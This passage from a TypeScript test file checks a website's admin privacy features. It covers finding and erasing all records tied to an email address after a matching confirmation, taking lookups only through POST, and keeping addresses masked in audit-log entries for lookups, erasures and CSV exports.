    it("R-FOLLOW-13, 48: finds everything stored for an address (a pending newsletter signup and renewal reminders too) and erases it after confirmation", async () => {
      await sendContact({ email: "Subject@Example.com" });
      await api.db.insert(newsletterSubscribers).values({ email: "subject@example.com", source: "footer" });
      await api.db.insert(androidWaitlist).values({ email: "subject@example.com" });
      await api.db.insert(newsletterSubscribers).values({ email: "bystander@example.com", source: "footer" });
      const reminder = { source: "home", consentAt: new Date(), status: "scheduled" } as const;
      await api.db.insert(renewalReminders).values([
        { ...reminder, email: "subject@example.com", renewalMonth: "2027-01" },
        { ...reminder, email: "subject@example.com", renewalMonth: "2027-06" },
        { ...reminder, email: "bystander@example.com", renewalMonth: "2027-01" },
      ]);

      const report = await privacyLookup("SUBJECT@example.com");
      expect([
        report.subscribers.length,
        report.waitlist.length,
        report.enquiries.length,
        report.reminders.length,
      ]).toEqual([1, 1, 1, 2]);
      // The person's own record: the address in full.
      expect(report.reminders.map((row) => row.email)).toEqual(["subject@example.com", "subject@example.com"]);

      const mismatch = await api.api("/admin/privacy/erase", {
        method: "POST",
        body: { email: "subject@example.com", confirmEmail: "other@example.com" },
        cookie: adminCookie,
      });
      expect(mismatch.status).toBe(400);
      expect(await mismatch.json()).toEqual({
        error: "The confirmation does not match the address",
        field: "confirmEmail",
      });

      const erased = await api.api("/admin/privacy/erase", {
        method: "POST",
        body: { email: "subject@example.com", confirmEmail: "Subject@example.com" },
        cookie: adminCookie,
      });
      expect(await erased.json()).toEqual({
        email: "subject@example.com",
        // The enquiry's alert to the team and its acknowledgement were waiting on the queue (no SMTP here): they go too (R-SAFE-40).
        deleted: { subscribers: 1, waitlist: 1, enquiries: 1, reminders: 2, messages: 2 },
      });
      const left = await Promise.all([
        api.db.select({ n: count() }).from(newsletterSubscribers),
        api.db.select({ n: count() }).from(androidWaitlist),
        api.db.select({ n: count() }).from(contactEnquiries),
        api.db.select({ n: count() }).from(renewalReminders),
      ]);
      expect(left.map(([row]) => row!.n)).toEqual([1, 0, 0, 1]);
      const [entry] = await api.db.select().from(auditLog).where(eq(auditLog.action, "privacy.erase"));
      expect(entry).toMatchObject({
        actorEmail: ADMIN.email,
        target: "s***@example.com",
        details: { subscribers: 1, waitlist: 1, enquiries: 1, reminders: 2, messages: 2 },
      });
      // The log never holds the erased address itself.
      const everything = JSON.stringify(await api.db.select().from(auditLog));
      expect(everything).not.toContain("subject@example.com");
    });

    it("the lookup takes the address in a POST body: a GET with it in the query is gone, and the audit entry is masked", async () => {
      await api.db.insert(newsletterSubscribers).values({ email: "subject@example.com", source: "footer" });
      for (const path of [
        "/admin/privacy?email=subject%40example.com",
        "/admin/privacy/lookup?email=subject%40example.com",
      ]) {
        const byGet = await api.api(path, { cookie: adminCookie });
        expect([404, 405], path).toContain(byGet.status);
        expect(await byGet.text(), path).not.toContain("subject@example.com");
      }
      const noBody = await api.api("/admin/privacy/lookup", { method: "POST", cookie: adminCookie });
      expect(noBody.status).toBe(400);
      const invalid = await api.api("/admin/privacy/lookup", {
        method: "POST",
        body: { email: "not-an-address" },
        cookie: adminCookie,
      });
      expect(await invalid.json()).toEqual({ error: "Please enter a valid email address", field: "email" });

      const report = await privacyLookup("subject@example.com");
      expect(report.subscribers.map((row) => row.email)).toEqual(["subject@example.com"]);
      const entries = await api.db.select().from(auditLog).where(eq(auditLog.action, "privacy.lookup"));
      expect(entries).toHaveLength(1);
      expect(entries[0]).toMatchObject({ target: "s***@example.com", details: { found: 1 } });
      expect(JSON.stringify(entries)).not.toContain("subject@example.com");
    });

    it("an export searched by an address keeps the search masked in the audit log, as an erasure does", async () => {
      await sendContact({ email: "layla.private@example.com" });
      await api.db.insert(newsletterSubscribers).values({ email: "layla.private@example.com", source: "footer" });
      await api.db.insert(androidWaitlist).values({ email: "layla.private@example.com" });
      for (const list of ["enquiries", "subscribers", "waitlist"]) {
        const response = await api.api(`/admin/${list}/export.csv?q=Layla.Private%40example.com`, {
          cookie: adminCookie,
        });
        expect(response.status, list).toBe(200);
        expect(await response.text(), list).toContain("layla.private@example.com");
      }
      const exports = await api.db.select().from(auditLog);
      expect(exports.map((entry) => [entry.action, entry.details])).toEqual(
        expect.arrayContaining([
          ["enquiries.export", expect.objectContaining({ rows: 1, q: "L***@example.com" })],
          ["subscribers.export", expect.objectContaining({ rows: 1, q: "L***@example.com" })],
          ["waitlist.export", expect.objectContaining({ rows: 1, q: "L***@example.com" })],
        ]),
      );
      expect(JSON.stringify(exports).toLowerCase()).not.toContain("layla.private");
      // A search that is not an address keeps no more than its first character either.
      await api.api("/admin/enquiries/export.csv?q=Haddad", { cookie: adminCookie });
      const [byName] = await api.db
        .select()
        .from(auditLog)
        .where(eq(auditLog.action, "enquiries.export"))
        .orderBy(desc(auditLog.id))
        .limit(1);
      expect(byName!.details).toMatchObject({ q: "H***" });
    });
  });

  it("keeps the roles in user_roles (R-ROLE-03)", async () => {
    const rows = await api.db.select().from(userRoles);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.role).toBe("admin");
  });
});
